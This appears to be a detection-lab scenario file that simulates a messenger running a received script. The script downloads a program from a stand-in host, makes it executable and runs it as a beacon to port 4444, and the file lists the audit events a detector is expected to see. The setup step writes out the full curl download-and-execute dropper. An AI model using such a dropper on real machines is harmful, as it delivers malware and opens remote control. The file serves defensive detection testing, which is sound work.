# A click on a received file inside the messenger: the shell is the messenger's own child.
title="Messenger starts a shell on a file it received"
what="The buyer's messenger writes invoice_helper.sh into ~/Downloads and, on a click, starts sh on it as a child of its own. The script fetches a program from 203.0.113.66 into ~/.local/bin and starts it; it connects to 203.0.113.67 port 4444. There is no terminal."
host=ws3.example.org user=buyer daemons="cron" audit_rules=audit-wide.rules audit_format=RAW
stand_ins=("/opt/Signal/signal-desktop stands in for an Electron messenger: it fetches one file by HTTP from chat.example.com, writes it as the messenger does and starts a child on it")

setup() {
  compile messenger /opt/Signal/signal-desktop
  mkdir -p "$base/out/www/file"
  printf '#!/bin/sh\nmkdir -p "$HOME/.local/bin"\ncurl -s -o "$HOME/.local/bin/invh" http://drop.example.net/file/invh\nchmod +x "$HOME/.local/bin/invh"\n"$HOME/.local/bin/invh" 203.0.113.67 4444\n' > "$base/out/www/file/invoice_helper.sh"
  cc -O1 -o "$base/out/www/file/invh" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 2
  desktop_as buyer -- /opt/Signal/signal-desktop 203.0.113.82 80 /file/invoice_helper.sh Downloads/invoice_helper.sh sh; desktop_wait
  small_talk 1
}
truth() {
  net_step receive 'signal-desktop 203.0.113.82:80' 'the messenger talks to its service'
  file_step save 'signal-desktop rename .*Downloads/invoice_helper.sh' 'and writes the file'
  exec_step open '(dash|sh) sh /home/buyer/Downloads/invoice_helper.sh' 'a shell is started on it'
  net_step fetch 'curl 203.0.113.66:80' 'it fetches a program'
  exec_step execute '/home/buyer/.local/bin/invh 203.0.113.67' 'and starts it'
  net_step beacon '203.0.113.67:4444' 'which calls out'
}
